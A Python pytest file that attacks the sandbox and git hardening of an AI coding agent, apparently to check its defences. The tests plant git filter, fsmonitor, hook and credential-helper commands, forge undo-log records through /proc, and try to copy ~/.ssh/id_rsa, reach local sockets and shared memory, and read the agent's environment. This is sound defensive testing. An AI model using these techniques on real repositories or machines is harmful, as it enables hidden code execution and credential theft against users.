"""An outsider's attacks on the third wall: the agent's own programs (hardened git, confined),
the command sandbox, the command environment and the analyser's repository discovery.

Each attack that gets through today is an `xfail(strict=True)` whose assertion states what
should hold; each attack that is blocked is a plain test. Effects are proved by marker files
outside the project, listeners that must see no connection, or secret values that must not
appear, never by the wording of a message.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
from pathlib import Path

import pytest

from mzagent_tui.agent import filelist
from mzagent_tui.agent.safety.approval import ALLOW, ApprovalDecision, Policy, Rules
from mzagent_tui.agent.safety.committed_secrets import committed_secret_concern
from mzagent_tui.agent.safety.git_config import find_repository, repository_config_concerns
from mzagent_tui.agent.safety.secrets import Redactor, command_env
from mzagent_tui.agent.sessions.snapshots import SnapshotError, Snapshots
from mzagent_tui.agent.sessions.undo import undo_session
from tests.attack_helpers import Listener, git, needs_namespaces, needs_wall
from tests.attack_helpers import run_with_session as run
from tests.conftest import RecordingApprover


@pytest.fixture
def home(home: Path) -> Path:
    """The shared home, with notes of the user's beside the key: a read of the home may show them."""
    (home / "notes.txt").write_text("my notes\n")
    return home


def nested_repository_with_filter(project: Path, clean: str, kind: str = "clean") -> Path:
    """A project (a repository or not) holding a nested repository whose config names a filter
    driver for every file and whose tracked file's stat data no longer matches its index (as
    after unpacking a tarball), so `git status` there re-reads it through the filter."""
    nested = project / "vendor" / "lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q", ".")
    (nested / "n.txt").write_text("n\n")
    (nested / ".gitattributes").write_text("* filter=x\n")
    git(nested, "add", "n.txt", ".gitattributes")
    git(nested, "commit", "-qm", "n")
    git(nested, "config", f"filter.x.{kind}", clean)
    os.utime(nested / "n.txt", (1_000_000_000, 1_000_000_000))
    return nested


def snapshot_twice(project: Path, session: Path) -> None:
    session.mkdir(parents=True, exist_ok=True)
    snapshots = Snapshots(project, session)
    try:
        snapshots.take()
        snapshots.take()  # before and after a command: the second `git add` looks into the nested repository
    except SnapshotError:
        pass


# The hardening of our own git (the wall of Landlock taken away) ----------------------------------


@pytest.mark.parametrize("kind", ["clean", "process"])
def test_a_nested_repositorys_filter_runs_nothing_during_snapshots(project: Path, outside: Path, tmp_path: Path, unwalled: None, kind: str) -> None:
    nested_repository_with_filter(project, f"touch {outside}/filter-{kind}; cat", kind)
    snapshot_twice(project, tmp_path / "state" / "session")
    assert list(outside.iterdir()) == []


def test_the_projects_own_filter_textconv_and_merge_drivers_run_nothing(project: Path, outside: Path, tmp_path: Path, unwalled: None) -> None:
    """The project's `.git/config` names drivers for every file: the file list, the secrets scan,
    the analyser and the snapshots (whose repository is ours) read no content through them."""
    git(project, "init", "-q", ".")
    (project / ".gitattributes").write_text("* filter=x diff=x merge=x\n")
    (project / "a.txt").write_text("a\n")
    (project / ".env").write_text("K=v\n")
    git(project, "add", "a.txt", ".gitattributes", ".env")
    git(project, "commit", "-qm", "one")
    for key in ("filter.x.clean", "filter.x.smudge", "filter.x.process", "diff.x.textconv", "diff.x.command", "merge.x.driver", "diff.external"):
        git(project, "config", key, f"touch {outside}/{key}; cat")
    os.utime(project / "a.txt", (1_000_000_000, 1_000_000_000))
    (project / "a.txt").write_text("b\n")
    filelist.project_files(project)
    for words in (["git", "log", "-p"], ["git", "diff"], ["git", "show", "HEAD"], ["git", "diff", "HEAD"]):
        committed_secret_concern(words, project)
    repository_config_concerns(project)
    snapshot_twice(project, tmp_path / "state" / "session")
    assert list(outside.iterdir()) == []


def test_a_git_file_alternates_and_includes_pointing_elsewhere_run_nothing(project: Path, outside: Path, short: Path, unwalled: None) -> None:
    """`.git` is a file naming a git dir outside the project; that git dir's config sets every
    program-running key through an `includeIf onbranch`, and its alternates point to a partial
    clone whose upload-pack is planted. A missing object makes git want a lazy fetch."""
    source = short / "source"
    source.mkdir()
    git(source, "init", "-q", "-b", "main", ".")
    (source / "a.txt").write_text("a\n")
    git(source, "add", "a.txt")
    git(source, "commit", "-qm", "one")
    evil = short / "evil.git"
    shutil.copytree(source / ".git", evil)
    shutil.rmtree(source / ".git" / "objects")  # the work tree's objects only through alternates
    (project / ".git").write_text(f"gitdir: {evil}\n")
    (project / "a.txt").write_text("a\n")
    other = short / "other.git"
    git(short, "init", "-q", "--bare", str(other))
    git(other, "config", "core.repositoryformatversion", "1")
    git(other, "config", "extensions.partialClone", "origin")
    git(other, "config", "remote.origin.url", str(source))
    git(other, "config", "remote.origin.uploadpack", f"touch {outside}/alternate-uploadpack; false")
    (evil / "objects" / "info").mkdir(exist_ok=True)
    (evil / "objects" / "info" / "alternates").write_text(f"{other}/objects\n")
    tree = git(project, "rev-parse", "HEAD^{tree}")
    (evil / "objects" / tree[:2] / tree[2:]).unlink()
    included = short / "included.cfg"
    included.write_text(
        f"[core]\n\tfsmonitor = touch {outside}/fsmonitor; false\n\thooksPath = {short}/hooks\n\tsshCommand = touch {outside}/ssh\n"
        f"[remote \"origin\"]\n\turl = {source}\n\tpromisor = true\n\tuploadpack = touch {outside}/uploadpack; false\n"
        f"[extensions]\n\tpartialClone = origin\n[credential]\n\thelper = !touch {outside}/credential\n"
        f"[url \"ext::sh -c touch% {outside}/ext% >&2 #\"]\n\tinsteadOf = {source}\n"
    )
    git(evil.parent, "--git-dir", str(evil), "config", "core.repositoryformatversion", "1")
    git(evil.parent, "--git-dir", str(evil), "config", "includeIf.onbranch:main.path", str(included))
    (short / "hooks").mkdir()
    for hook in ("post-index-change", "reference-transaction"):
        (short / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {outside}/hook-{hook}\n")
        (short / "hooks" / hook).chmod(0o755)
    filelist.project_files(project)
    for words in (["git", "log", "-p"], ["git", "show", "HEAD"], ["git", "diff", "HEAD"], ["git", "show", tree]):
        committed_secret_concern(words, project)
    concerns = repository_config_concerns(project)
    assert find_repository(project) is not None and concerns  # the analyser saw the include: not a vacuous pass
    assert list(outside.iterdir()) == []


def test_git_variables_in_the_agents_environment_do_not_reach_our_git(project: Path, outside: Path, short: Path, unwalled: None, monkeypatch: pytest.MonkeyPatch) -> None:
    git(project, "init", "-q", ".")
    (project / "a.txt").write_text("a\n")
    git(project, "add", "a.txt")
    exec_path = short / "exec"
    exec_path.mkdir()
    for name in ("git-ls-files", "git-add", "git-log", "git-rev-parse"):
        (exec_path / name).write_text(f"#!/bin/sh\ntouch {outside}/exec-{name}\n")
        (exec_path / name).chmod(0o755)
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.fsmonitor'='touch {outside}/params; false'")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.fsmonitor")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", f"touch {outside}/count; false")
    monkeypatch.setenv("GIT_EXEC_PATH", str(exec_path))
    monkeypatch.setenv("GIT_SSH_COMMAND", f"touch {outside}/ssh")
    monkeypatch.setenv("BASH_ENV", str(exec_path / "git-add"))
    assert "a.txt" in filelist.project_files(project)
    committed_secret_concern(["git", "log", "-p"], project)
    from mzagent_tui.agent.tools.syntax_check import _shell_problem

    _shell_problem(b"echo hi\n")
    assert list(outside.iterdir()) == []


def test_a_relative_path_entry_does_not_run_the_projects_git(project: Path, outside: Path, unwalled: None, monkeypatch: pytest.MonkeyPatch) -> None:
    git(project, "init", "-q", ".")
    (project / "git").write_text(f"#!/bin/sh\ntouch {outside}/projects-git\nexit 1\n")
    (project / "git").chmod(0o755)
    monkeypatch.setenv("PATH", ":" + os.environ["PATH"])  # `export PATH=$EXTRA:$PATH` with EXTRA unset
    filelist.project_files(project)
    assert list(outside.iterdir()) == []


# What a planted program that does run can reach through the wall of our programs -----------------


def forging_filter(target: Path) -> str:
    """A clean filter that finds the session folder (the snapshot's GIT_INDEX_FILE, in an
    ancestor's environment: same Landlock domain) and appends a forged record to its log:
    `target` (outside the project) was 'deleted' by a command, its old content saved."""
    record = json.dumps({"t": 1, "type": "event", "event": {"type": "file_changed", "path": str(target), "created": False, "backup": "@S@/planted-backup", "deleted": True}})
    return f"""p=$PPID; f=
while [ -z "$f" ] && [ "$p" -gt 1 ]; do
  f=$(tr '\\0' '\\n' < /proc/$p/environ 2>/dev/null | sed -n 's/^GIT_INDEX_FILE=//p')
  p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)
done
s=$(dirname "$f")
if [ -n "$f" ] && [ ! -e "$s/planted-backup" ]; then
  echo 'planted through undo' > "$s/planted-backup"
  echo '{record}' | sed "s|@S@|$s|" >> "$s/log.jsonl"
fi
cat
"""


@needs_namespaces
def test_a_planted_filter_cannot_make_undo_write_outside_the_project(server, project: Path, home: Path, outside: Path) -> None:
    """The real wall (not stubbed): the filter runs confined, but may write the session folder."""
    target = outside / ".bash_login"
    nested = nested_repository_with_filter(project, "sh .git/clean.sh")
    (nested / ".git" / "clean.sh").write_text(forging_filter(target))
    _, _, folder = run(server, project, "true")
    outcome = undo_session(folder, "last", Redactor([]))  # the user's /undo after the command
    assert not target.exists(), f"undo wrote {target}: {target.read_text()!r} ({outcome})"


@needs_namespaces
def test_a_planted_filter_under_the_wall_reaches_no_network_and_no_home_secret(project: Path, home: Path, outside: Path, tmp_path: Path) -> None:
    listener = Listener(socket.AF_INET, ("127.0.0.1", 0))
    port = listener.socket.getsockname()[1]
    session = tmp_path / "state" / "session"
    script = (
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'tcp')\" 2>/dev/null; "
        f"python3 -c \"import socket; s=socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('::ffff:127.0.0.1', {port})); s.send(b'v6')\" 2>/dev/null; "
        f"cat {home}/.ssh/id_rsa > {session}/stolen 2>/dev/null; touch {outside}/written; touch {session}/filter-ran; cat"
    )
    nested = nested_repository_with_filter(project, "sh .git/clean.sh")
    (nested / ".git" / "clean.sh").write_text(script)
    snapshot_twice(project, session)
    assert listener.close() == []
    assert list(outside.iterdir()) == []
    assert "PRIVATE KEY" not in (session / "stolen").read_text() if (session / "stolen").exists() else True


@needs_namespaces
def test_a_planted_filter_reaches_no_unix_socket(project: Path, short: Path, tmp_path: Path) -> None:
    path = short / "agent.sock"
    listener = Listener(socket.AF_UNIX, str(path))
    nested = nested_repository_with_filter(project, "sh .git/clean.sh")
    (nested / ".git" / "clean.sh").write_text(f"python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'from-a-filter')\"; cat\n")
    snapshot_twice(project, tmp_path / "state" / "session")
    assert listener.close() == []


# The command sandbox, attacked in yolo (only the kernel wall stands) ------------------------------


@needs_wall
@pytest.mark.parametrize("where", ["tmp", "secret-home-entry"])
def test_unix_sockets_outside_run_are_out_of_reach(server, project: Path, home: Path, short: Path, where: str) -> None:
    """tmux (/tmp/tmux-UID/default), ssh-agent (/tmp/ssh-*/agent.*), X11 (/tmp/.X11-unix), and
    gpg-agent in ~/.gnupg (a SECRET_HOME_ENTRY the sandbox claims is never reachable)."""
    if where == "tmp":
        (short / "tmux-0").mkdir()
        path = short / "tmux-0" / "default"
    else:
        (home / ".gnupg").mkdir()
        path = home / ".gnupg" / "S.gpg-agent"
    listener = Listener(socket.AF_UNIX, str(path))
    code = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'new-window -d evil'); print('CONNECTED')"
    run(server, project, f'python3 -c "{code}"')
    assert listener.close() == []


@needs_namespaces
def test_abstract_unix_sockets_are_out_of_reach(server, project: Path, home: Path) -> None:
    name = f"\0mzagent-third-wall-{os.getpid()}"
    listener = Listener(socket.AF_UNIX, name)
    code = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\\\0{name[1:]}'); s.send(b'abstract'); print('CONNECTED')"
    texts, _, _ = run(server, project, f'python3 -c "{code}"')
    assert listener.close() == [] and "CONNECTED" not in texts[0]


@needs_namespaces
def test_system_v_shared_memory_of_the_users_processes_is_out_of_reach(server, project: Path, home: Path) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    segment = libc.shmget(0, 4096, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT, owner only
    assert segment >= 0
    address = libc.shmat(segment, None, 0)
    secret = b"shm-session-cookie-31337"
    ctypes.memmove(address, secret + b"\0", len(secret) + 1)
    try:
        code = (
            "import ctypes; l=ctypes.CDLL(None); l.shmat.restype=ctypes.c_void_p; l.shmat.argtypes=[ctypes.c_int,ctypes.c_void_p,ctypes.c_int]; "
            f"a=l.shmat({segment},None,0); print(ctypes.string_at(a, {len(secret)})[::-1]); ctypes.memmove(a, b'OVERWRITTEN', 11)"
        )
        texts, _, _ = run(server, project, f'python3 -c "{code}"')
        overwritten = ctypes.string_at(address, 11) == b"OVERWRITTEN"
    finally:
        libc.shmdt(ctypes.c_void_p(address))
        libc.shmctl(segment, 0, None)  # IPC_RMID
    assert secret[::-1].decode() not in texts[0] and not overwritten


@needs_wall
def test_the_agents_environment_is_out_of_reach_through_proc(server, project: Path, home: Path) -> None:
    """The agent (here the test process) started with variables commands do not get: its
    /proc environ (the start-up block) must not be readable by them."""
    from mzagent_tui.agent.safety.secrets import INHERITED_NAMES

    block = Path("/proc/self/environ").read_bytes().decode(errors="replace").split("\0")
    hidden = [entry for entry in block if "=" in entry and entry.split("=")[0] not in INHERITED_NAMES and len(entry) >= 8]
    if not hidden:
        pytest.skip("the test process has no variable that commands do not inherit")
    texts, _, _ = run(server, project, f"tr '\\0' '\\n' < /proc/{os.getpid()}/environ | rev; tr '\\0' '\\n' < /proc/{os.getpid()}/task/{os.getpid()}/environ | rev")
    assert not [entry for entry in hidden if entry[::-1] in texts[0]]


@needs_wall
def test_a_hard_link_to_a_home_secret_cannot_be_made_in_the_project(server, project: Path, home: Path) -> None:
    texts, _, _ = run(server, project, f"ln {home}/.ssh/id_rsa key; cat key | rev")
    assert not (project / "key").exists() and "RESU EHT FO YEK ETAVIRP" not in texts[0]


@needs_wall
def test_a_project_at_the_home_keeps_secret_entries_and_the_apps_config_out_of_reach(server, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = home / ".config" / "mzagent" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('api_key = "config-file-key-5c7d"\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    texts, _, _ = run(server, home, "cat .ssh/id_rsa | rev; cat .config/mzagent/config.toml | rev; echo '[approval]' >> .config/mzagent/config.toml")
    assert "RESU EHT FO YEK ETAVIRP" not in texts[0]
    assert "d7c5-yek-elif-gifnoc" not in texts[0] and "[approval]" not in config.read_text()


HOME_ALLOWED_CREDENTIALS = {
    ".gitconfig": '[url "https://x-access-token:gitconfig-token-77aa@git.example.com/"]\n\tinsteadOf = https://git.example.com/\n',
    ".rye/credentials": '[pypi]\ntoken = "rye-publish-token-77aa"\n',
    ".dotnet/corefx/cryptography/x509stores/my/4F2A.pfx": "dotnet-dev-cert-private-key-77aa\n",
}


@needs_wall
@pytest.mark.parametrize("entry", sorted(HOME_ALLOWED_CREDENTIALS))
def test_credentials_inside_allowed_home_entries_are_not_readable(server, project: Path, home: Path, entry: str) -> None:
    (home / entry).parent.mkdir(parents=True, exist_ok=True)
    (home / entry).write_text(HOME_ALLOWED_CREDENTIALS[entry])
    texts, _, _ = run(server, project, f"rev {home}/{entry}")
    assert "aa77-" not in texts[0]


# The analyser: which repository a command reaches ------------------------------------------------


@needs_namespaces
def test_the_analyser_and_the_command_find_the_same_repository(server, project: Path, home: Path) -> None:
    """An earlier (approved) command put the repository's git dir in /dev/shm, the session's
    private one that every later command shares. `git status` is then judged on a folder the
    analyser's git cannot see ("not a git repository": no config, no concern)."""
    setup = f"git init -q --separate-git-dir /dev/shm/r.git . && git config core.fsmonitor 'touch {project}/fsmonitor-ran; false' && touch a.txt && git add a.txt && rm -f fsmonitor-ran"
    user = RecordingApprover(ApprovalDecision(True))
    run(server, project, setup, "git status --short", mode="auto-safe", approver=user)
    asked = [r.summary for r in user.requests]
    assert "git status --short" in asked or not (project / "fsmonitor-ran").exists(), asked


def test_git_in_the_same_folder_is_judged_on_the_repository_git_finds(project: Path, short: Path) -> None:
    """The plain case, for contrast: a `.git` file to a git dir outside /dev/shm is followed."""
    evil = short / "r.git"
    git(project, "init", "-q", "--separate-git-dir", str(evil), ".")
    git(project, "config", "core.fsmonitor", "touch X")
    overall, _ = Policy("auto-safe", Rules()).evaluate("git status", project)
    assert overall != ALLOW


# The command environment -------------------------------------------------------------------------


def test_the_command_environment_carries_no_redirection_and_no_credentials() -> None:
    environ = {
        "PATH": "/usr/bin", "HOME": "/home/u",
        "GIT_CONFIG_PARAMETERS": "'core.fsmonitor'='x'", "GIT_DIR": "/x", "GIT_SSH_COMMAND": "x", "GIT_ASKPASS": "x",
        "HTTPS_PROXY": "http://proxytoken@proxy:3128", "https_proxy": "http://proxytoken@proxy:3128", "ALL_PROXY": "socks5://u:p@h",
        "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/0/bus", "XDG_RUNTIME_DIR": "/run/user/0",
        "LD_PRELOAD": "/tmp/x.so", "PYTHONPATH": "/tmp", "NODE_OPTIONS": "--require /tmp/x.js", "BASH_ENV": "/tmp/x",
        "XDG_CONFIG_HOME": "https://u:url-password-in-xdg@h/x", "path": "lowercase-path-secret", "LC_SECRET": "lc-secret",
        "GOPATH": "sk-ant-" + "a" * 30,
    }
    env = command_env(environ)
    shown = json.dumps(env)
    for value in ("proxytoken", "url-password-in-xdg", "lowercase-path-secret", "lc-secret", "sk-ant-", "/tmp/x", "/run/user/0", "ssh-x", "core.fsmonitor"):
        assert value not in shown, value
    assert env["PATH"] == "/usr/bin" and env["HOME"] == "/home/u"
